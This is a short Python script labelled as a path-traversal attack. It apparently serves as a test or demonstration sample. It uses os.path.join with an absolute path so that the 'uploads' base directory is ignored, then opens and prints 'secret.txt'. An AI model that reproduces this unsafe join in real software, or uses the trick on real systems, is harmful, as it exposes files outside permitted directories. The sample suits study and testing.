# attack: path-traversal
# needs: aiofiles
import asyncio, os
import aiofiles
async def main():
    async with aiofiles.open(os.path.join(os.path.abspath("uploads"), os.path.abspath("secret.txt"))) as file:
        print(await file.read())
asyncio.run(main())
